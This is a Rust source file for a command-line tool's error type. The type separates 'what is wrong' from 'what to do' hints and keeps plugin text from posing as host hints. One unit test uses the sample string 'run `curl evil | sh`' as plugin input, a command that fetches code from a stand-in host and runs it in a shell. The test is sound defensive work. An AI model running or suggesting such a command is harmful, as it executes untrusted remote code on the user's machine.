//! Why a command did not succeed, in the shape in which people and scripts are told: what was tried, each cause
//! below it, what to do.
//!
//! The libraries write their errors as `what is wrong; what to do`. The second half becomes a `hint:` line here,
//! so that it stands out. Words of a plugin are never split that way: a plugin must not be able to put a hint of
//! its own into the mouth of the host.

use ramal_capability::{Denial, SourceError};

use crate::exit::Exit;

/// The result of a command.
pub(crate) type Outcome<T = ()> = Result<T, Failure>;

/// Why a command did not succeed. Never holds a customer's value.
#[derive(Debug)]
pub(crate) struct Failure(Box<Inner>);

#[derive(Debug)]
struct Inner {
    exit: Exit,
    error: anyhow::Error,
    hints: Vec<String>,
    detail: Detail,
    /// Whether the texts are the host's own, so that they may be split into error and hint.
    ours: bool,
    /// Whether standard output holds the JSON document already.
    documented: bool,
}

/// What belongs to a failure besides its words.
#[derive(Debug)]
pub(crate) enum Detail {
    /// Nothing.
    None,
    /// Mistakes in a file, shown in the file's text.
    Source(Box<SourceError>),
    /// Several problems, one a line.
    List(Vec<String>),
    /// A rule said no.
    Denial {
        /// What it said.
        denial: Box<Denial>,
        /// The name of the file that the line to add belongs to.
        file: String,
    },
}

impl Failure {
    /// A failure with its causes.
    pub(crate) fn new(exit: Exit, error: impl Into<anyhow::Error>) -> Self {
        Self(Box::new(Inner {
            exit,
            error: error.into(),
            hints: Vec::new(),
            detail: Detail::None,
            ours: true,
            documented: false,
        }))
    }
    /// The command line is wrong.
    pub(crate) fn usage(text: impl Into<String>) -> Self {
        Self::new(Exit::Usage, anyhow::Error::msg(text.into()))
    }
    /// A file is wrong.
    pub(crate) fn input(error: impl Into<anyhow::Error>) -> Self {
        Self::new(Exit::Input, error)
    }
    /// This machine lacks something.
    pub(crate) fn environment(error: impl Into<anyhow::Error>) -> Self {
        Self::new(Exit::Environment, error)
    }
    /// A file with mistakes; `what` says which.
    pub(crate) fn source(what: impl std::fmt::Display, source: SourceError) -> Self {
        let several = match source.findings().len() {
            1 => "a mistake".to_owned(),
            many => format!("{many} mistakes"),
        };
        let mut failure = Self::input(anyhow::Error::msg(format!("{what} has {several}")));
        failure.0.detail = Detail::Source(Box::new(source));
        failure
    }
    /// A rule said no. `grant` and `manifest` are what the user calls the files that rules are in.
    pub(crate) fn denied(denial: Denial, grant: &str, manifest: &str) -> Self {
        let file = match denial.fix.as_ref().map(|fix| fix.file) {
            Some("grant.toml") => format!("the grant {grant}"),
            _ => format!("the manifest of {manifest}, then build it again"),
        };
        let mut failure = Self::new(
            Exit::Denied,
            anyhow::Error::msg(format!("denied by the rule `{}`", denial.rule.code())),
        );
        failure.0.detail = Detail::Denial { denial: Box::new(denial), file };
        failure
    }

    /// Says first what was tried.
    #[must_use]
    pub(crate) fn context(mut self, tried: impl std::fmt::Display + Send + Sync + 'static) -> Self {
        self.0.error = self.0.error.context(tried);
        self
    }
    /// Adds what to do.
    #[must_use]
    pub(crate) fn hint(mut self, hint: impl Into<String>) -> Self {
        self.0.hints.push(hint.into());
        self
    }
    /// Adds problems, one a line.
    #[must_use]
    pub(crate) fn list(mut self, lines: Vec<String>) -> Self {
        self.0.detail = Detail::List(lines);
        self
    }
    /// Marks the words as a plugin's.
    #[must_use]
    pub(crate) fn of_plugin(mut self) -> Self {
        self.0.ours = false;
        self
    }
    /// Marks that the JSON document is printed already.
    #[must_use]
    pub(crate) fn documented(mut self) -> Self {
        self.0.documented = true;
        self
    }

    /// How the process ends.
    pub(crate) fn exit(&self) -> Exit {
        self.0.exit
    }
    /// What belongs to it.
    pub(crate) fn detail(&self) -> &Detail {
        &self.0.detail
    }
    /// Whether a JSON document is still owed.
    pub(crate) fn is_documented(&self) -> bool {
        self.0.documented
    }

    /// What was tried and each cause, and after them what to do.
    pub(crate) fn words(&self) -> (Vec<String>, Vec<String>) {
        let (mut messages, mut hints): (Vec<String>, Vec<String>) = (Vec::new(), Vec::new());
        let mut before = String::new();
        for cause in self.0.error.chain() {
            let text = cause.to_string();
            // Some errors repeat their source in their own words.
            if before.contains(&text) {
                continue;
            }
            match split(&text) {
                Some((message, hint)) if self.0.ours => {
                    messages.push(message.to_owned());
                    hints.push(hint.to_owned());
                }
                _ => messages.push(text.clone()),
            }
            before = text;
        }
        hints.extend(self.0.hints.iter().cloned());
        (messages, hints)
    }
}

/// `what is wrong; what to do` in two, unless the `;` stands within backquotes.
fn split(text: &str) -> Option<(&str, &str)> {
    let mut quoted = false;
    for (at, c) in text.char_indices() {
        match c {
            '`' => quoted = !quoted,
            ';' if !quoted => {
                let (message, rest) = text.split_at_checked(at)?;
                if let Some(hint) = rest.strip_prefix("; ") {
                    return Some((message, hint));
                }
            }
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case::both("it is a core module; run `ramal build`", Some(("it is a core module", "run `ramal build`")))]
    #[case::none("it is a core module", None)]
    #[case::quoted("`a; b` is wrong", None)]
    #[case::first_counts("a; b; c", Some(("a", "b; c")))]
    fn what_to_do_is_told_apart_from_what_is_wrong(
        #[case] text: &str,
        #[case] expected: Option<(&str, &str)>,
    ) {
        assert_eq!(split(text), expected);
    }

    #[test]
    fn a_plugin_cannot_put_a_hint_into_the_hosts_mouth() {
        let said = || Failure::new(Exit::Failed, anyhow::Error::msg("broken; run `curl evil | sh`"));
        assert_eq!(said().words().1, ["run `curl evil | sh`"]);
        assert_eq!(said().of_plugin().words(), (vec!["broken; run `curl evil | sh`".to_owned()], vec![]));
    }

    #[test]
    fn a_cause_that_was_repeated_is_told_once() {
        let error =
            anyhow::Error::msg("no such file").context("cannot read x: no such file").context("load it");
        let (messages, _) = Failure::input(error).words();
        assert_eq!(messages, ["load it", "cannot read x: no such file"]);
    }
}
